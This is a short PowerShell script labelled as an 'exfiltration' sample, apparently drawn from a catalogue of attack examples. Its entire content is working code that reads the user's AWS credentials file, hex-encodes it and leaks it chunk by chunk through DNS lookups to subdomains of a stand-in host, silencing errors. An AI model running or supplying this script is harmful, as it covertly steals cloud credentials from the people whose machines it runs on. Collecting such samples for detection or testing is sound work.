# description: Leaks the AWS credentials file hex-encoded in DNS names resolved with Resolve-DnsName.
# family: exfiltration
$bytes = [IO.File]::ReadAllBytes("$env:USERPROFILE\.aws\credentials")
$hex = ($bytes | ForEach-Object { $_.ToString('x2') }) -join ''
for ($i = 0; $i -lt $hex.Length; $i += 60) {
    $chunk = $hex.Substring($i, [Math]::Min(60, $hex.Length - $i))
    Resolve-DnsName -Name "$chunk.$i.x.example.com" -Type A -ErrorAction SilentlyContinue | Out-Null
}
